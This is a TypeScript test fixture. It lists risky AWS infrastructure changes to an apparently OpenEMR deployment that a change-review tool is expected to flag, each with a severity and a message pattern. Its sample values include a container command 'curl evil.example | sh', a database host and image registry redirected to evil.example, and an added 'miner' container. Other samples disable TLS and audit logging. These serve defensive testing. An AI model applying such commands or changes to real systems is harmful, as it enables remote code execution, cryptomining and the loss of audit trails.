import { added, replaced, updated } from "../stack-of";
import { allow, OPENEMR, parameter, policy, type Risky, set, task } from "./changes";

/** Not in any of the project's examples before: database, containers, buckets, and what nobody has described. */
export const OTHERS_INSIDE: readonly Risky[] = [
  [
    "the general log is switched on",
    "danger",
    /writes every statement into a log/,
    parameter("general_log", "0", "1"),
  ],
  [
    "users are left out of the audit",
    "danger",
    /leaves users out of the audit/,
    parameter("server_audit_excl_users", "", "openemr"),
  ],
  [
    "the database needs no TLS",
    "danger",
    /no longer requires TLS/,
    parameter("require_secure_transport", "ON", "OFF"),
  ],
  ["a container runs privileged", "danger", /runs privileged/, task({ ...OPENEMR, privileged: true })],
  [
    "a container runs another command",
    "warning",
    /runs another command/,
    task({ ...OPENEMR, command: ["sh", "-c", "curl evil.example | sh"] }),
  ],
  [
    "a container connects to another database",
    "danger",
    /connects to something else/,
    task({ ...OPENEMR, environment: [{ name: "MYSQL_HOST", value: "evil.example" }] }),
  ],
  [
    "a second container comes along",
    "danger",
    /image from elsewhere/,
    replaced(
      "aws_ecs_task_definition.application_task",
      { container_definitions: JSON.stringify([OPENEMR]) },
      { container_definitions: JSON.stringify([OPENEMR, { name: "miner", image: "evil.example/miner" }]) },
      ["container_definitions"],
    ),
  ],
  [
    "a secret comes from elsewhere",
    "warning",
    /takes a secret from elsewhere/,
    task(
      { ...OPENEMR, secrets: [{ name: "A", valueFrom: "arn:other" }] },
      { ...OPENEMR, secrets: [{ name: "A", valueFrom: "arn:one" }] },
    ),
  ],
  [
    "a key can no longer be administered",
    "danger",
    /can no longer be administered/,
    updated(
      "aws_kms_key.data_key",
      policy(allow("kms:*", "*", { Principal: { AWS: "arn:aws:iam::123456789012:root" } })),
      policy(allow("kms:Decrypt", "*", { Principal: { AWS: "arn:aws:iam::123456789012:root" } })),
    ),
  ],
  [
    "images come through another registry",
    "danger",
    /takes images from another registry/,
    set(
      "aws_ecr_pull_through_cache_rule.images_rule",
      "upstream_registry_url",
      "public.ecr.aws",
      "evil.example",
    ),
  ],
  [
    "objects of a bucket are deleted after a day",
    "danger",
    /lets objects expire sooner/,
    set("aws_s3_bucket_lifecycle_configuration.audit_lifecycle", "rule.0.expiration.0.days", 2555, 1),
  ],
  [
    "backups go into another vault",
    "danger",
    /puts backups into another vault/,
    updated(
      "aws_backup_plan.backup_plan",
      { rule: [{ rule_name: "a", target_vault_name: "one" }] },
      { rule: [{ rule_name: "a", target_vault_name: "two" }] },
    ),
  ],
  [
    "messages are no longer read",
    "danger",
    /is switched off/,
    set("aws_lambda_event_source_mapping.mail_mapping", "enabled", true, false),
  ],
  [
    "shells are recorded elsewhere",
    "danger",
    /records of shells in another bucket/,
    set(
      "aws_ecs_cluster.application_cluster",
      "configuration.0.execute_command_configuration.0.log_configuration.0.s3_bucket_name",
      "exec",
      "other",
    ),
  ],
  [
    "a website is made of a bucket",
    "danger",
    /another way to the data/,
    added("aws_s3_bucket_website_configuration.mail_website", { bucket: "mail" }),
  ],
  [
    "a new type that nobody has described",
    "warning",
    /no rule knows what it can do/,
    added("aws_quantum_teleporter.network_thing", {}),
  ],
  [
    "an attribute that nobody has described, of an identity",
    "warning",
    /in a way that no rule knows/,
    set("aws_iam_role.application_task_role", "path", "/", "/other/"),
  ],
  [
    "an attribute that nobody has described",
    "unknown",
    /in a way that no rule knows/,
    set("aws_lb.edge_lb", "client_keep_alive", 3600, 60),
  ],
  [
    "a tag that permissions ask for",
    "unknown",
    /in a way that no rule knows/,
    updated(
      "aws_lb.edge_lb",
      { tags: { Environment: "a", Name: "x" } },
      { tags: { Environment: "b", Name: "x" } },
    ),
  ],
];
